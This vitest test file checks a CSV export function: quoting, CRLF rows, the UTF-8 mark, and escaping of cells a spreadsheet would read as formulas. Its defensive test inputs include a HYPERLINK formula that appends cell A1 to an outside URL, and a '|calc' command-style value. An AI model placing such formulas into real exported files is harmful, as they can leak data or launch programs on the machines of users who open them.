import { expect, test } from 'vitest';
import { csvOf } from '../../src/core/csv.ts';

test('rows are lines that end with CR LF, after the mark of UTF-8', () => {
  expect(
    csvOf([
      ['a', 'b'],
      ['1', ''],
    ]),
  ).toBe('\ufeff"a","b"\r\n"1",""\r\n');
});

test.each([
  // a text, its cell
  ['plain', '"plain"'],
  ['comma, semicolon;', '"comma, semicolon;"'],
  ['a “quote” and a "quote"', '"a “quote” and a ""quote"""'],
  ['two\nlines', '"two\nlines"'],
  ['niño HER2 β', '"niño HER2 β"'],
  // what a spreadsheet would take for a formula
  ['=1+1', '"\'=1+1"'],
  ['=HYPERLINK("https://x.org?"&A1)', '"\'=HYPERLINK(""https://x.org?""&A1)"'],
  ['+44 20', '"\'+44 20"'],
  ['-2', '"\'-2"'],
  ['@SUM(A1)', '"\'@SUM(A1)"'],
  ['\t=1', '"\'\t=1"'],
  ['  =1', '"\'  =1"'],
  ['\r=1', '"\'\r=1"'],
  ['\n=1', '"\'\n=1"'],
  ['＝1', '"\'＝1"'],
  ['|calc', '"\'|calc"'],
  ['\ufeff=1', '"\'\ufeff=1"'],
  // signs in the middle are only signs
  ['HER2-low', '"HER2-low"'],
  ['a = b', '"a = b"'],
])('%j is the cell %s', (text, cell) => {
  expect(csvOf([[text]])).toBe(`\ufeff${cell}\r\n`);
});
